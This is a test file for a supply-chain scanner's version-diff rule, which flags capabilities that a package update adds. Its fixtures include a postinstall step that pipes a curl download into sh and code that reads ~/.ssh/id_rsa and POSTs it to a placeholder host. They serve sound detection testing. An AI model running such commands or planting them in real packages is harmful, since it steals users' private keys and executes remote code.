// Capability matching between versions: by what code does, never by line or file.
import { describe, expect, it } from "vitest";
import { diffVersions, type ScannedVersion } from "../../src/diff/index.js";
import { identifyPackage } from "../../src/ingest/package-identity.js";
import type { LoadedPackage } from "../../src/ingest/index.js";
import { loadSignatures } from "../../src/rules/signatures.js";
import { scanLoadedPackage } from "../../src/scan.js";
import { makeTar } from "../helpers/archives.js";
import { runCli } from "../helpers/cli.js";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

const signatures = loadSignatures();

async function version(files: Record<string, string | Buffer>): Promise<ScannedVersion> {
  const map = new Map(Object.entries(files).map(([k, v]) => [k, Buffer.from(v)]));
  const pkg: LoadedPackage = { input: "mem", files: map, bytes: [...map.values()].reduce((n, b) => n + b.length, 0), errors: [] };
  identifyPackage(pkg);
  return { pkg, scan: await scanLoadedPackage(pkg, signatures) };
}

const manifest = (v: string, scripts?: Record<string, string>) => JSON.stringify({ name: "lib", version: v, ...(scripts ? { scripts } : {}) }, null, 2);
const sender = "const https = require('https');\nfunction ping() { https.request({ host: 'stats.example.invalid', path: '/p' }).end('x'); }\nmodule.exports = { ping };\n";

async function added(oldFiles: Record<string, string | Buffer>, newFiles: Record<string, string | Buffer>) {
  const findings = diffVersions(await version(oldFiles), await version(newFiles), signatures);
  return findings.filter((f) => f.ruleId === "new-capability-in-update");
}

describe("new-capability-in-update", () => {
  it("adds nothing when the same code moves to another file and line", async () => {
    const moved = `// moved\n\n\n${sender}`;
    expect(await added({ "package.json": manifest("1.0.0"), "index.js": sender }, { "package.json": manifest("1.0.1"), "lib/net.js": moved, "index.js": "module.exports = require('./lib/net');\n" })).toEqual([]);
  });

  it("reports a new send to a new host, medium at call time, with a fingerprint that ignores version and line", async () => {
    const other = sender.replace("stats.example.invalid", "other.example.invalid").replace("const https", "const https2").replace("https.request", "https2.request");
    const a = await added({ "package.json": manifest("1.0.0"), "index.js": sender }, { "package.json": manifest("1.0.1"), "index.js": `${sender}\n${other.replace(/ping/g, "pong")}` });
    expect(a.map((f) => [f.severity, f.indicators[0]?.value])).toEqual([["medium", "other.example.invalid"]]);
    const b = await added({ "package.json": manifest("1.0.1"), "index.js": sender }, { "package.json": manifest("1.0.2"), "index.js": `\n\n${other.replace(/ping/g, "pong")}\n${sender}` });
    expect(b.map((f) => f.fingerprint)).toEqual(a.map((f) => f.fingerprint));
  });

  it("reports an install script that appears or whose command changes, and is high when it sends at install time", async () => {
    const changed = await added(
      { "package.json": manifest("1.0.0", { postinstall: "node build.js" }), "build.js": "console.log('ok');\n" },
      { "package.json": manifest("1.0.1", { postinstall: "node build.js && curl -s https://drop.example.invalid/x | sh" }), "build.js": "console.log('ok');\n" },
    );
    expect(changed.map((f) => [f.severity, f.location.file])).toEqual(
      expect.arrayContaining([["medium", "package.json"], ["high", "package.json"]]),
    );
    const same = await added(
      { "package.json": manifest("1.0.0", { postinstall: "node build.js" }), "build.js": "console.log('ok');\n" },
      { "package.json": manifest("1.0.1", { postinstall: "node  build.js" }), "build.js": "console.log('still ok');\n" },
    );
    expect(same).toEqual([]);
  });

  it("reports new native binaries and minified bundles, not new images", async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(64)]);
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0]), Buffer.alloc(64)]);
    const bundle = `var a=${JSON.stringify("x".repeat(3000))};module.exports=a;`;
    const a = await added({ "package.json": manifest("1.0.0"), "index.js": "module.exports = 1;\n" }, { "package.json": manifest("1.0.1"), "index.js": "module.exports = 1;\n", "bin/helper": elf, "logo.png": png, "dist/app.min.js": bundle });
    expect(a.map((f) => f.location.file).sort()).toEqual(["bin/helper", "dist/app.min.js"]);
    expect(a.every((f) => f.severity === "medium")).toBe(true);
  });
});

describe("exfilscan diff (CLI)", () => {
  it("compares two .tgz archives and exits 1 on a high addition, 0 on a refactor, 2 on an unreadable version", () => {
    const dir = mkdtempSync(join(tmpdir(), "exfilscan-diff-"));
    const tgz = (name: string, files: Record<string, string>) => {
      writeFileSync(join(dir, name), makeTar(Object.entries(files).map(([path, content]) => ({ path: `package/${path}`, content }))));
      return join(dir, name);
    };
    const clean = tgz("a-1.0.0.tgz", { "package.json": manifest("1.0.0"), "index.js": sender });
    const evil = tgz("a-1.0.1.tgz", { "package.json": manifest("1.0.1"), "index.js": `${sender}const fs = require('fs');\nconst k = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa');\nrequire('https').request({ host: 'k.example.invalid', method: 'POST' }).end(k);\n` });
    const run = runCli(["diff", clean, evil, "-f", "json"]);
    expect(run.code).toBe(1);
    const report = JSON.parse(run.stdout) as { findings: { ruleId: string; severity: string }[]; targets: unknown[] };
    expect(report.targets).toHaveLength(2);
    expect(report.findings.filter((f) => f.ruleId === "new-capability-in-update").map((f) => f.severity)).toContain("high");
    expect(runCli(["diff", clean, clean, "-f", "json"]).code).toBe(0);
    const missing = runCli(["diff", clean, join(dir, "nope.tgz"), "-f", "json"]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain("both versions must be readable");
  });
});
